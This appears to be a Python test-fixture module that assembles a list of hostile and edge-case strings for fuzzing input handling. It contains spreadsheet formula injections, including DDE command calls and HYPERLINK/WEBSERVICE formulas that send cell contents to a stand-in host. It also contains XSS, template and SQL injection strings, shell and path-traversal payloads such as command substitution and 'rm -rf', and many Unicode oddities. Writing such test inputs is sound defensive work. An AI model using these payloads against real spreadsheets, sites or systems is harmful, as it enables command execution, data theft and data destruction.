"""Texts that would do harm if anything ran, rendered, parsed or forgot them."""

_RUN = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠x"]
_CALLS = [
    'HYPERLINK("https://example.invalid/?"&A1,"pay")',
    'WEBSERVICE("https://example.invalid/")',
    'IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    'INDIRECT("A1")',
]
_SCRIPTS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "javascript:window.pwned=1",
    "<iframe src=https://example.invalid></iframe>",
    "<a href=https://example.invalid>pay</a>",
    "<style>body{display:none}</style>",
    "&lt;script&gt;", "&#x3C;b&#x3E;", "<!--", "]]>", "<b>bold</b>",
]  # fmt: skip
_MARKUP = [
    "![x](https://example.invalid/x.png)", "[x](https://example.invalid)", "# heading", "* item",
    "**bold**", "__bold__", "`code`", "~~gone~~", "$x^2$", "$$\\int$$", ":red[x]",
    ":material/bolt:",
    ":smile:", ":streamlit:", "---", "> quote", "|a|b|", "- [ ] task", "\\(x\\)", "<br>",
    "https://example.invalid/", "mailto:a@example.invalid", "{{7*7}}", "${7*7}", "%s%s%n", "%d",
    "{0}", "{x.__class__}", "#{7*7}", "<%= 7*7 %>",
]  # fmt: skip
_QUERIES = [
    "' or '1'='1", "'; drop table pay_record; --", '"; drop table pay_record; --', "1; select 1",
    "$load", "?", "%", "_", "--", "/* */", "\\", "\\\\", "\\n", "\\x41", "\\'", "''", "'", '"',
    '""', "'quoted'", '"quoted"', "a'b", 'a"b', "''=1", "'=1+1", "'''", "`;`",
]  # fmt: skip
_SHELL = [
    "$(touch /tmp/pwned)", "`touch /tmp/pwned`", "; rm -rf x", "| cat", "&& true", "> /tmp/x",
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\host\\share", "file:///etc/passwd",
    "con", "nul", "aux.txt", "~", "*", "?.csv", "-rf", "--help",
]  # fmt: skip
_LETTERS = [
    "null", "NULL", "None", "nan", "NaN", "NA", "N/A", "inf", "-inf", "Infinity", "true", "FALSE",
    "undefined", "0", "007", "1e5", "0x1F", "1_000", "1,5", "1.5", "٣", "½", "²", "Ⅷ", "①",
    "12:30", "3/4", "2026-02-30", "March 1", "1-2", "00001", "+49 30 1", "#N/A", "#REF!", "#", "##",
]  # fmt: skip
_ODD = [
    "a,b", "a;b", "a\tb", "a|b", "a\nb", "a\r\nb", "\ttab first", "\nline first", "tab last\t",
    "\u00a0space", "space\u00a0", "\u200bzero", "zero\u200b", "\ufeffmark", "\u202egnp.exe",
    "\u2066ltr\u2069", "e\u0301", "é", "ß", "İ", "ı", "ﬁ", "Å", "Å", "日本語", "العربية", "עברית",
    "ไทย", "हिन्दी", "👩‍👩‍👧‍👦", "🏳️‍🌈", "𝒳", "\U0001f4a9", "\u0007bell", "\u001b[31mred", "\u007f",
    "\u0085next", "\u2028line", "\u2029paragraph", "x" * 5_000, "é" * 3_000, "a" + "\u0300" * 200,
    "ａ", "“quoted”", "‘x’", "…", "—", "–", "€", "£", "¥", "™",
]  # fmt: skip
#: Every one differs from the others, has no outer space, and no NUL.
HOSTILE = list(
    dict.fromkeys(
        [
            *_RUN,
            *(f"{mark}{call}" for mark in ("=", "+", "-", "@", "\t=", "'=") for call in _CALLS),
            *_SCRIPTS,
            *(f"={text}" for text in _SCRIPTS),
            *_MARKUP,
            *_QUERIES,
            *_SHELL,
            *_LETTERS,
            *_ODD,
        ]
    )
)
